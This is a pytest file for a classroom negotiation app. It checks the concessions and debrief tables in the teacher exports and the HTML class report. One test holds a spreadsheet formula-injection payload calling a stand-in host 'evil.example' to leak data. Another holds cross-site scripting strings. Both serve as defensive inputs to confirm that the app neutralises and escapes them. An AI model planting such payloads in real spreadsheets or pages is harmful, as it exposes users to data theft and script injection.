"""The concessions and debrief exercises in the teacher's exports and the class report (SQLite and PostgreSQL).

Every number of the new tables is checked against the pure functions the
routes use (:func:`ranked_concessions`, :func:`scored_packages`) on the same
submissions read from the database, and a few against arithmetic done by hand
(tests/cases/tiny's total conflict, harbour-lease's points tables).
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import zipfile

import openpyxl
import pytest

import engine
from engine.io.schema import POSITION_CHANGE_FIELDS
from reports.export.tables import rounded
from reports.web.classroom import store
from reports.web.classroom.concessions import ranked_concessions
from reports.web.classroom.debrief import scored_packages
from reports.web.classroom.exports import table_descriptions
from reports.web.classroom.models import Classroom, Student, Submission
from tests.reports.web.classroom.test_exercises import (
    HARBOUR_LOW,
    HARBOUR_NASH,
    HARBOUR_SPLIT,
    PROPOSALS,
    T_BEFORE,
    _class,
    _join,
)

TABLES = list(table_descriptions())
NEW_TABLES = ["concessions", "concession_changes", "packages", "frontier"]


def _get(client, code, teacher, what):
    r = client.get(f"/api/classes/{code}/{what}", headers=teacher)
    assert r.status_code == 200, (what, r.text)
    return r


def _csv(client, code, teacher, table):
    text = _get(client, code, teacher, f"export/{table}.csv").text
    return list(csv.DictReader(io.StringIO(text)))


def _num(cell: str) -> float | None:
    return None if cell == "" else float(cell)


def _propose(client, code, name, changes, rationale, group=None):
    body = {"changes": changes, "rationale": rationale}
    if group:
        body["group"] = group
    student = _join(client, code, name)
    r = client.put(f"/api/classes/{code}/concessions", json=body, headers=student)
    assert r.status_code == 200, r.text
    return student


def _package(client, code, name, text, group=None):
    student = _join(client, code, name)
    body = {"package": text, **({"group": group} if group else {})}
    r = client.put(f"/api/classes/{code}/package", json=body, headers=student)
    assert r.status_code == 200, r.text
    return student


def _harbour_class(client):
    """harbour-lease with both exercises open: three proposals, three packages (one a group)."""
    code, teacher = _class(client, "harbour-lease", ("concessions", "debrief"))
    rent = [{"party": "port", "issue": "rent", "add": ["r300k"]}]
    term = [{"party": "ferries", "issue": "term", "acceptable": {"min": 10, "max": 25}}]
    _propose(client, code, "Ann", rent, "The port can live with less rent.", "Pair 1")
    _propose(client, code, "Ben", term, "A shorter lease is fine.")
    _propose(client, code, "Cat", rent, "Same as pair 1.")  # ties with Ann's
    _package(client, code, "Dan", HARBOUR_SPLIT, "Pair 1")
    _package(client, code, "Eve", HARBOUR_NASH)
    _package(client, code, "Fay", HARBOUR_LOW)
    return code, teacher


# ------------------------------------------------------------------ the tables' numbers


def test_the_concessions_tables_are_the_ranking_worked_by_hand(client, db):
    code, teacher = _class(client, "tiny", ("concessions",))
    for name, (changes, _) in PROPOSALS.items():
        _propose(client, code, name, changes, f"{name}'s reason")
    rows = _csv(client, code, teacher, "concessions")
    # tiny: T_before = 1/4·(0.8+1)/2 + 1·(0.4+0.2)/2 + 10/100·(0.6+0.2)/2 (test_exercises.py)
    assert [(r["rank"], r["name"], r["tied_with"]) for r in rows] == [
        ("1", "Cat", ""),
        ("2", "Ann", ""),
        ("3", "Ben", "Dan"),
        ("3", "Dan", "Ben"),
        ("5", "Eve", ""),
    ]
    for r in rows:
        want = PROPOSALS[r["name"]][1]
        assert _num(r["removed"]) == pytest.approx(want, abs=5e-7)
        assert _num(r["total_conflict_before"]) == pytest.approx(T_BEFORE, abs=5e-7)
        assert _num(r["total_conflict_after"]) == pytest.approx(T_BEFORE - want, abs=5e-7)
    by = {r["name"]: r for r in rows}
    assert by["Ann"]["red_lines_crossed"] == "Party B on Ordinal issue"
    assert by["Ann"]["what"] == "Party B on Ordinal issue: accepts Four … Five → Three … Five"
    assert by["Ann"]["zones_opened"].startswith("Ordinal issue: ")
    assert _num(by["Eve"]["removed"]) < 0 and by["Eve"]["zones_opened"] == ""
    # the same numbers as the pure function on the stored submissions
    case = engine.load_case("tests/cases/tiny")
    ranked = ranked_concessions(case, store.submissions(db, code, "concessions"))
    for row, want in zip(rows, ranked, strict=True):
        assert (int(row["rank"]), int(row["number"]), row["by"]) == (
            want["rank"],
            want["number"],
            want["by"],
        )
        for k in ("total_conflict_before", "total_conflict_after", "removed"):
            assert _num(row[k]) == pytest.approx(want[k], abs=5e-7)
        assert (int(row["conflicts_resolved"]), int(row["conflicts_created"])) == (
            want["conflicts_resolved"],
            want["conflicts_created"],
        )
        assert row["rationale"] == want["rationale"]
    changes = _csv(client, code, teacher, "concession_changes")
    assert list(changes[0]) == ["rank", "number", "name", "change", "party", "issue",
                                *POSITION_CHANGE_FIELDS]  # fmt: skip
    ben = [c for c in changes if c["name"] == "Ben"]
    assert [(c["change"], c["party"], c["issue"], c["acceptable"]) for c in ben] == [
        ("1", "a", "num", "10..50")
    ]
    assert [c["add"] for c in changes if c["name"] == "Ann"] == ["o3"]
    # the JSON is the ranking route's answer (floats to 6 decimals)
    data = json.loads(_get(client, code, teacher, "export.json").text)
    route = _get(client, code, teacher, "concessions/ranked").json()
    assert data["concessions"] == json.loads(json.dumps(rounded(route)))
    assert data["debrief"] is None  # not run


def test_the_debrief_tables_are_the_scores_and_the_points_tables(client, db):
    code, teacher = _harbour_class(client)
    rows = {r["name"]: r for r in _csv(client, code, teacher, "packages")}
    assert list(rows) == ["Pair 1", "Eve", "Fay"]
    pair = rows["Pair 1"]
    # the port's points table (positions/harbour-lease/parties/port.yaml), weight × points:
    # term 15 → 0.8, rent r400k → 0.75, dredging split → 0.6, hiring quarter → 0.7, nights summer → 1
    port = 0.15 * 0.8 + 0.4 * 0.75 + 0.2 * 0.6 + 0.15 * 0.7 + 0.1 * 1
    ferries = 0.3 * 0.6 + 0.2 * 0.4 + 0.15 * 0.5 + 0.05 * 0.8 + 0.3 * 0.4
    assert _num(pair["utility_port"]) == pytest.approx(port, abs=5e-7)
    assert _num(pair["utility_ferries"]) == pytest.approx(ferries, abs=5e-7)
    assert (pair["group"], pair["members"], pair["by"]) == ("Pair 1", "Dan", "Dan")
    assert [pair[f"outcome_{i}"] for i in ("term", "rent", "dredging", "hiring")] == [
        "15", "r400k", "split", "quarter",
    ]  # fmt: skip
    assert rows["Fay"]["above_reservation_port"] == "False" and rows["Fay"]["rational"] == "False"
    # the same numbers as the pure function on the stored submissions
    case = engine.load_case("harbour-lease")
    scored = scored_packages(case, store.submissions(db, code, "debrief"))
    for want in scored["packages"]:
        row = rows[want["name"]]
        for p in ("port", "ferries"):
            assert _num(row[f"utility_{p}"]) == pytest.approx(want["utilities"][p], abs=5e-7)
            assert row[f"above_reservation_{p}"] == str(want["above_reservation"][p])
        assert row["on_frontier"] == str(want["on_frontier"])
        assert int(row["nearest_point"]) == want["nearest_point"]
        assert _num(row["distance"]) == pytest.approx(want["distance"], abs=5e-7)
        assert _num(row["nash_distance"]) == pytest.approx(want["nash_distance"], abs=5e-7)
    frontier = _csv(client, code, teacher, "frontier")
    points = [f for f in frontier if f["kind"] == "frontier"]
    assert [int(f["point"]) for f in points] == [f["point"] for f in scored["frontier"]]
    front = engine.pareto_packages(case, case.party_ids)
    assert [_num(f["utility_port"]) for f in points] == pytest.approx(
        front["U(port)"].tolist(), abs=5e-7
    )
    assert [f["point"] for f in points if f["nash"] == "True"] == [str(front.attrs["nash_point"])]
    (nash,) = [f for f in frontier if f["kind"] == "nash"]
    assert (_num(nash["utility_port"]), _num(nash["utility_ferries"])) == (0.75, 0.69)
    assert nash["outcome_rent"] == scored["nash"]["package"]["rent"] == "r500k"
    # the JSON is the packages route's answer without the plot, which is a file of the zip
    route = _get(client, code, teacher, "packages").json()
    data = json.loads(_get(client, code, teacher, "export.json").text)
    assert data["debrief"] == json.loads(
        json.dumps(rounded({**{k: v for k, v in route.items() if k != "svg"},
                            "scorable_reason": ""}))
    )  # fmt: skip
    with zipfile.ZipFile(io.BytesIO(_get(client, code, teacher, "export.zip").content)) as z:
        svg = z.read(f"zopa-class-{code}/debrief-frontier.svg").decode()
        readme = z.read(f"zopa-class-{code}/README.txt").decode()
    assert svg == route["svg"] and "Package 1: Port 0.745, Ferries 0.495" in svg
    assert "\ndebrief-frontier.svg " in readme
    # the concessions of the same class: Ann's (Pair 1) and Cat's proposals tie, named
    ranked = _csv(client, code, teacher, "concessions")
    assert [(r["rank"], r["name"], r["tied_with"]) for r in ranked][:2] == [
        ("1", "Pair 1", "Cat"),
        ("1", "Cat", "Pair 1"),
    ]


def test_formula_text_of_the_exercises_is_neutralised_and_kept(client):
    code, teacher = _class(client, "harbour-lease", ("concessions", "debrief"))
    evil = '=HYPERLINK("http://evil.example/?leak=1","click")'
    rent = [{"party": "port", "issue": "rent", "add": ["r300k"]}]
    _propose(client, code, "-Ann", rent, evil, "+Pair 1")
    _propose(client, code, "Ben", rent, "@SUM(A1:A9) is why")
    _package(client, code, "Cat", HARBOUR_SPLIT, "=Group 2")
    conc = _csv(client, code, teacher, "concessions")
    assert [(r["name"], r["group"], r["by"], r["rationale"]) for r in conc] == [
        ("'+Pair 1", "'+Pair 1", "'-Ann", "'" + evil),
        ("Ben", "", "Ben", "'@SUM(A1:A9) is why"),
    ]
    assert [r["name"] for r in _csv(client, code, teacher, "concession_changes")] == [
        "'+Pair 1",
        "Ben",
    ]
    pkg = _csv(client, code, teacher, "packages")
    assert [(r["name"], r["group"], r["members"]) for r in pkg] == [
        ("'=Group 2", "'=Group 2", "Cat")
    ]
    data = json.loads(_get(client, code, teacher, "export.json").text)
    assert [(p["name"], p["rationale"]) for p in data["concessions"]["proposals"]] == [
        ("+Pair 1", evil),
        ("Ben", "@SUM(A1:A9) is why"),
    ]
    assert data["debrief"]["packages"][0]["name"] == "=Group 2"
    book = openpyxl.load_workbook(io.BytesIO(_get(client, code, teacher, "export.xlsx").content))
    assert set(NEW_TABLES) <= set(book.sheetnames)
    cell = next(c for row in book["concessions"].iter_rows() for c in row if c.value == "'" + evil)
    assert cell.data_type == "s"
    assert not any(c.data_type == "f" for ws in book for row in ws.iter_rows() for c in row)


# ------------------------------------------------------------------ files and links


def test_exercise_exports_are_byte_identical_and_every_table_is_reachable(client):
    code, teacher = _harbour_class(client)
    files = ["export.zip", "export.json", "export.xlsx", "report.html"]
    files += [f"export/{t}.csv" for t in TABLES]
    first = {what: _get(client, code, teacher, what).content for what in files}
    second = {what: _get(client, code, teacher, what).content for what in files}
    assert first == second
    for table in NEW_TABLES:
        assert first[f"export/{table}.csv"].count(b"\n") > 1, table  # headers and rows
    unknown = client.get(f"/api/classes/{code}/export/nope.csv", headers=teacher)
    assert unknown.status_code == 404
    listed = unknown.json()["errors"][0]["message"].split("tables: ", 1)[1].split(", ")
    assert listed == TABLES and set(NEW_TABLES) <= set(listed)
    with zipfile.ZipFile(io.BytesIO(first["export.zip"])) as z:
        inside = {n.split("/", 1)[1]: z.read(n) for n in z.namelist()}
    for table in TABLES:
        assert inside[f"{table}.csv"] == first[f"export/{table}.csv"]
    page = client.get(f"/class/{code}/teacher?token={teacher['Authorization'][7:]}").text
    section = page.split('id="downloads"', 1)[1].split("</section>", 1)[0]
    linked = {h.split("?")[0] for h in re.findall(r'href="([^"]+)"', section)}
    assert {f"/api/classes/{code}/export/{t}.csv" for t in TABLES} <= linked


def test_other_submissions_keep_only_what_no_section_exports(client, db):
    code, teacher = _harbour_class(client)
    assert _csv(client, code, teacher, "other_submissions") == []
    roster = _csv(client, code, teacher, "roster")
    assert list(roster[0])[-2:] == ["concessions_revision", "debrief_revision"]
    # a debrief on a case that cannot be scored (written to the database by hand: the API
    # never opens one) is not lost: it is exported raw, and the packages table is empty
    made = client.post("/api/classes", json={"case": "ukraine-russia", "units": ["russia:nato"]})
    uk, uk_teacher = (
        made.json()["code"],
        {"Authorization": f"Bearer {made.json()['teacher_token']}"},
    )
    _join(client, uk, "Ann")
    body = {"package": {"nato": "legal_bar"}, "saved": "2025-01-01T00:00:00"}
    with db.session() as s:
        c = s.query(Classroom).filter_by(code=uk).one()
        ann = s.query(Student).filter_by(class_id=c.id, name="Ann").one()
        s.add(Submission(class_id=c.id, student_id=ann.id, kind="debrief", body=body, revision=1))
    others = _csv(client, uk, uk_teacher, "other_submissions")
    assert [(r["kind"], r["student"], json.loads(r["body"])) for r in others] == [
        ("debrief", "Ann", body)
    ]
    assert _csv(client, uk, uk_teacher, "packages") == []
    data = json.loads(_get(client, uk, uk_teacher, "export.json").text)
    assert "points table" in data["debrief"]["scorable_reason"]
    html = _get(client, uk, uk_teacher, "report.html").text
    assert "The packages cannot be scored" in html and "Other submissions" in html


# ------------------------------------------------------------------ the class report


def test_the_report_shows_both_exercises_escaped(client):
    code, teacher = _class(client, "harbour-lease", ("concessions", "debrief"))
    rent = [{"party": "port", "issue": "rent", "add": ["r300k"]}]
    why = '<img src=x onerror="alert(1)"> & the rent'
    _propose(client, code, "<script>alert('a')</script>", rent, why)
    _propose(client, code, "Ben", rent, "Same.", "Pair <2>")
    _package(client, code, "Cat", HARBOUR_SPLIT, "<b>Group</b> 1")
    _package(client, code, "Dan", HARBOUR_NASH)
    html = _get(client, code, teacher, "report.html").text
    assert "<script" not in html and "<b>" not in html and 'onerror="' not in html
    assert "&lt;script&gt;alert(&#39;a&#39;)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=&#34;alert(1)&#34;&gt; &amp; the rent" in html
    assert "&lt;b&gt;Group&lt;/b&gt; 1" in html and "Pair &lt;2&gt;" in html
    conc = html.split('<section id="concessions">', 1)[1].split("</section>", 1)[0]
    assert "Total conflict among the case's 2 parties on 2025-09-01" in conc
    assert "tie with Pair &lt;2&gt;" in conc  # both remove the same: the tie is named
    assert "Port on Rent:" in conc and "300 000 a year" in conc
    deb = html.split('<section id="debrief">', 1)[1].split("</section>", 1)[0]
    for words in ("Points for Port", "On the frontier", "Left on the table",
                  "From the Nash package", "Nash package", "0.745", "0.495", "0.132"):  # fmt: skip
        assert words in deb, words
    # the plot: the one image, inline as a data: URI of the packages route's SVG
    (src,) = re.findall(r'<img src="([^"]+)"', html)
    assert src.startswith("data:image/svg+xml;base64,")
    svg = base64.b64decode(src.split(",", 1)[1]).decode()
    assert svg == _get(client, code, teacher, "packages").json()["svg"]
    assert re.search(r"<(link|script|iframe)\b", html) is None
    assert re.search(r"""(src|href)=["']?(https?:)?//""", html) is None  # nothing fetched
    # a debrief-only class does not show the coding exercise's empty sections
    for heading in ("Reliability (Krippendorff", "Most disputed positions"):
        assert heading in html  # coding is still open in this class
    made = client.post("/api/classes", json={"case": "harbour-lease", "exercises": ["debrief"]})
    only, only_teacher = (
        made.json()["code"],
        {"Authorization": f"Bearer {made.json()['teacher_token']}"},
    )
    _package(client, only, "Eve", HARBOUR_LOW)
    html = _get(client, only, only_teacher, "report.html").text
    assert 'id="debrief"' in html and 'id="alpha"' not in html and 'id="concessions"' not in html
    assert "Negotiation debrief: 1 student submitted (1 package counted" in html
